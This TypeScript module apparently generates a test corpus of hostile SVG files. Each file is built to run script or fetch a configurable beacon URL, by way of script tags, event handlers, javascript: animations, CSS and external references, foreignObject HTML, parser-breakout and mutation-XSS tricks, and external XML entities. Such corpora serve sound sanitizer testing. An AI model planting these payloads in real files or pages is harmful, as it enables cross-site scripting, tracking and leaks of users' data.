const SVG = "http://www.w3.org/2000/svg";
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';

/**
 * SVGs that run a script or send a request where nobody stops them, by a name that is also the path of what they send.
 * @param beacon The origin they call, without a slash at its end.
 */
export function hostileSvgs(beacon: string): ReadonlyMap<string, string> {
  const made = new Map<string, string>();
  const add = (name: string, make: (url: string, script: string) => string): void => {
    const url = `${beacon}/${name}`;
    made.set(name, make(url, `fetch('${url}')`));
  };
  const content = (name: string, make: (url: string, script: string) => string): void => {
    add(name, (url, script) => inside(make(url, script)));
  };
  addScripts(content);
  addHandlers(add, content);
  addAnimations(content);
  addFetches(content);
  addStyles(content);
  addForeign(content);
  addBreakouts(content);
  addProlog(add);
  return made;
}

type Add = (name: string, make: (url: string, script: string) => string) => void;

function inside(content: string, attributes = ""): string {
  return `<svg xmlns="${SVG}" ${XLINK} viewBox="0 0 10 10" width="10" height="10" ${attributes}>${content}</svg>`;
}

const SHAPE = '<rect id="a" width="9" height="9"/>';

function addScripts(content: Add): void {
  content("script", (_, script) => `<script>${script}</script>`);
  content("script-cdata", (_, script) => `<script type="text/ecmascript"><![CDATA[${script}]]></script>`);
  content("script-href", (url) => `<script href="${url}"/>`);
  content("script-xlink", (url) => `<script xlink:href="${url}"/>`);
  content("script-data", (_, script) => `<script href="data:text/javascript,${encodeURI(script)}"/>`);
  content("script-prefixed", (_, script) => `<s:script xmlns:s="${SVG}">${script}</s:script>`);
  content("script-html", (_, script) => `<script ${HTML}>${script}</script>`);
  content("script-in-group", (_, script) => `<g><defs><g><script>${script}</script></g></defs></g>`);
  content("script-in-unknown", (_, script) => `<unknown><script>${script}</script></unknown>`);
  content("script-in-text", (_, script) => `<text><tspan><script>${script}</script></tspan></text>`);
  content("script-in-link", (_, script) => `<a href="#a"><script>${script}</script></a>`);
  content("link", (_, script) => `<a href="javascript:${script}">${SHAPE}</a>`);
}

function addHandlers(add: Add, content: Add): void {
  add("onload-root", (_, script) => inside(SHAPE, `onload="${script}"`));
  add("onload-upper", (_, script) => inside(SHAPE, `ONLOAD="${script}"`));
  add("onload-prefixed", (_, script) => inside(SHAPE, `xmlns:s="${SVG}" s:onload="${script}"`));
  add("onload-entity", (_, script) => inside(SHAPE, `onload="${script.replace("(", "&#40;")}"`));
  content("onload-nested", (_, script) => `<svg onload="${script}"/>`);
  content("onload-group", (_, script) => `<g onload="${script}">${SHAPE}</g>`);
  content("onerror-image", (_, script) => `<image href="x:" onerror="${script}"/>`);
  content("onload-style", (_, script) => `<style onload="${script}">a{}</style>`);
  content("onfocus", (_, script) => `<g tabindex="0" autofocus="" onfocus="${script}">${SHAPE}</g>`);
  content("onbegin", (_, script) => `<animate attributeName="x" dur="1s" onbegin="${script}"/>`);
}

function addAnimations(content: Add): void {
  const drawn = '<circle r="9"/>';
  content(
    "animate-from",
    (_, script) =>
      `<a xlink:href="?">${drawn}<animate attributeName="xlink:href" from="javascript:${script}" to="&amp;"/></a>`,
  );
  content(
    "animate-values",
    (_, script) =>
      `<a xlink:href="?">${drawn}<animate attributeName="href" values="javascript:${script}"/></a>`,
  );
  content(
    "animate-by-id",
    (_, script) =>
      `<a id="x">${drawn}</a><animate xlink:href="#x" attributeName="href" values="javascript:${script}"/>`,
  );
  content("set", (_, script) => `<a>${drawn}<set attributeName="href" to="javascript:${script}"/></a>`);
  content("set-fetching", (url) => `<image id="i" width="9" height="9"/>${setHref("i", url)}`);
  content(
    "set-inside",
    (url) => `<image width="9" height="9"><set attributeName="href" to="${url}"/></image>`,
  );
  content(
    "animate-paint",
    (url) => `<rect width="9" height="9"><animate attributeName="fill" values="url(${url}#a)"/></rect>`,
  );
  content(
    "animate-transform",
    (_, script) =>
      `<rect width="9" height="9"><animateTransform attributeName="transform" type="rotate" dur="1s" onbegin="${script}"/></rect>`,
  );
  content(
    "animate-motion",
    (_, script) =>
      `<rect width="9" height="9"><animateMotion path="M0 0h1" dur="1s" onbegin="${script}"><mpath href="#a"/></animateMotion></rect>`,
  );
  content("discard", (_, script) => `${SHAPE}<discard href="#a" onbegin="${script}"/>`);
}

function setHref(id: string, url: string): string {
  return `<set href="#${id}" attributeName="href" to="${url}"/>`;
}

function addFetches(content: Add): void {
  content("image", (url) => `<image href="${url}" width="9" height="9"/>`);
  content("image-xlink", (url) => `<image xlink:href="${url}" width="9" height="9"/>`);
  content("image-relative", () => '<image href="/image-relative" width="9" height="9"/>');
  content("image-protocol-relative", (url) => `<image href="${url.slice(5)}" width="9" height="9"/>`);
  content("use", (url) => `<use href="${url}#a"/>`);
  content("use-base", (url) => `<g xml:base="${url}"><use href="#a"/><use href="x#a"/></g>`);
  content(
    "fe-image",
    (url) => `<filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  );
  for (const attribute of ["fill", "stroke", "filter", "mask", "clip-path", "marker-start", "cursor"]) {
    content(`attribute-${attribute}`, (url) => `<rect width="9" height="9" ${attribute}="url(${url}#a)"/>`);
  }
  content("attribute-quoted", (url) => `<rect width="9" height="9" fill='url("${url}#a")'/>`);
  content(
    "attribute-second",
    (url) => `<mask id="b"/><rect width="9" height="9" mask="url(#b) url(${url}#a)"/>`,
  );
  content(
    "attribute-fallback",
    (url) => `<linearGradient id="g"/><rect width="9" height="9" fill="url(#g) url(${url})"/>`,
  );
  content(
    "gradient-href",
    (url) => `<linearGradient id="g" href="${url}#g"/><rect width="9" height="9" fill="url(#g)"/>`,
  );
  content("include", (url) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}"/>`);
}

function addStyles(content: Add): void {
  content("import", (url) => `<style>@import url(${url});</style>`);
  content("import-quoted", (url) => `<style>@import"${url}";</style>`);
  content("import-commented", (url) => `<style>@import/**/"${url}";</style>`);
  content("import-escaped", (url) => `<style>@\\69 mport url(${url});</style>`);
  content(
    "image-set",
    (url) => `<style>*{list-style-image:image-set("${url}" 1x);display:list-item}</style>`,
  );
  content(
    "font-face",
    (url) =>
      `<style>@font-face{font-family:f;src:url(${url})}text{font-family:f}</style><text y="9">text</text>`,
  );
  content("style-rule", (url) => `<style>rect{fill:url(${url}#a)}</style>${SHAPE}`);
  content("style-html", (url) => `<style ${HTML}>*{background:url(${url})}</style>`);
  for (const property of ["background", "fill", "mask", "cursor", "filter", "-webkit-mask-image", "--x"]) {
    content(
      `style-${property.replace(/^-+/, "")}`,
      (url) => `<rect width="9" height="9" style="${property}:url(${url})"/>`,
    );
  }
  content("style-escaped", (url) => `<rect width="9" height="9" style="f\\69ll:u\\72l(${url}#a)"/>`);
  content("style-commented", (url) => `<rect width="9" height="9" style="fill:/**/url(${url}#a)"/>`);
  content("style-important", (url) => `<rect width="9" height="9" style="fill:url(${url}#a)!important"/>`);
}

function addForeign(content: Add): void {
  const foreign = (html: string) =>
    `<foreignObject width="9" height="9"><div ${HTML}>${html}</div></foreignObject>`;
  content("foreign-iframe", (url) => foreign(`<iframe src="${url}"></iframe>`));
  content("foreign-image", (_, script) => foreign(`<img src="x:" onerror="${script}"/>`));
  content("foreign-object", (url) => foreign(`<object data="${url}"></object>`));
  content("foreign-embed", (url) => foreign(`<embed src="${url}"/>`));
  content("foreign-video", (url) => foreign(`<video poster="${url}"></video>`));
  content("foreign-form", (url) => foreign(`<form action="${url}"><input autofocus="" name="x"/></form>`));
  content("foreign-srcdoc", (_, script) =>
    foreign(`<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`),
  );
  for (const [name, element] of [
    ["html-image", (url: string) => `<img ${HTML} src="${url}"/>`],
    ["html-iframe", (url: string) => `<iframe ${HTML} src="${url}"></iframe>`],
    ["html-link", (url: string) => `<link ${HTML} rel="stylesheet" href="${url}"/>`],
    ["html-prefetch", (url: string) => `<link ${HTML} rel="prefetch" href="${url}"/>`],
    ["html-refresh", (url: string) => `<meta ${HTML} http-equiv="refresh" content="0;url=${url}"/>`],
    ["html-base", (url: string) => `<base ${HTML} href="${url}"/><image href="x" width="9" height="9"/>`],
    ["html-audio", (url: string) => `<audio ${HTML} autoplay="" src="${url}"></audio>`],
  ] as const) {
    content(name, element);
  }
}

/** Markup that XML and HTML read in two ways. */
function addBreakouts(content: Add): void {
  const image = (script: string) => `<img src="x:" onerror="${script}"/>`;
  const escaped = (script: string) =>
    image(script).replaceAll("<", "&lt;").replaceAll('"', "&quot;").replaceAll(">", "&gt;");
  content("breakout-title", (_, script) => `<title>${image(script)}</title>`);
  content("breakout-desc", (_, script) => `<desc>${image(script)}</desc>`);
  content("breakout-metadata", (_, script) => `<metadata>${image(script)}</metadata>`);
  content("breakout-cdata", (_, script) => `<![CDATA[${image(script)}]]>`);
  content("breakout-cdata-title", (_, script) => `<title><![CDATA[${image(script)}]]></title>`);
  content("breakout-comment", (_, script) => `<!--><img src="x:" onerror="${script}"/>-->`);
  content("breakout-comment-end", (_, script) => `<!-- --!><img src="x:" onerror="${script}"/> -->`);
  content("breakout-attribute", (_, script) => `<g class="&quot;>${escaped(script)}">${SHAPE}</g>`);
  content("breakout-id", (_, script) => `<g id="&quot;&gt;${escaped(script)}">${SHAPE}</g>`);
  content(
    "breakout-fill",
    (_, script) => `<rect fill="&quot;/&gt;${escaped(script)}" width="9" height="9"/>`,
  );
  content("breakout-text", (_, script) => `${SHAPE}${escaped(script)}`);
  content("breakout-instruction", (_, script) => `<?x ><img src="x:" onerror="${script}"/>?>`);
  content("breakout-style", (_, script) => `<style><![CDATA[</style>${image(script)}]]></style>`);
  content(
    "breakout-paragraph",
    (_, script) => `<p ${HTML}/><style ${HTML}><a id="x"/></style>${image(script)}`,
  );
  content("mutation-end", (_, script) => `</p><style><a id="</style>${image(script)}">`);
  content(
    "mutation-annotation",
    (_, script) => `<annotation-xml><foreignobject><style><!--</style><p id="-->${image(script)}">`,
  );
  content(
    "mutation-table",
    (_, script) =>
      `<a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->${image(script)}">`,
  );
  content("mutation-bogus", (_, script) => `<! bogus ><g/>${image(script)}`);
  content(
    "mutation-math",
    (_, script) =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img ${HTML} src="x:" onerror="${script}"/></mtext></math>`,
  );
}

function addProlog(add: Add): void {
  add("stylesheet", (url) => `<?xml-stylesheet href="${url}" type="text/css"?>${inside(SHAPE)}`);
  add("transformation", (url) => `<?xml-stylesheet href="${url}" type="text/xsl"?>${inside(SHAPE)}`);
  add("doctype", (url) => `<!DOCTYPE svg SYSTEM "${url}">${inside(SHAPE)}`);
  add(
    "entity",
    (_, script) =>
      `<!DOCTYPE svg [<!ENTITY x "&#60;script xmlns='${SVG}'>${script.replaceAll("'", "&#34;")}&#60;/script>">]>${inside("&x;")}`,
  );
  add("entity-external", (url) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}">]>${inside("&x;")}`);
  add("entity-parameter", (url) => `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${url}">%x;]>${inside("")}`);
  add(
    "attribute-default",
    (_, script) => `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${script}">]>${inside(SHAPE)}`,
  );
  add(
    "root-html",
    (_, script) => `<html ${HTML}><body>${inside(`<script>${script}</script>`)}</body></html>`,
  );
  add("root-trailing", (_, script) => `${inside(SHAPE)}<script>${script}</script>`);
}
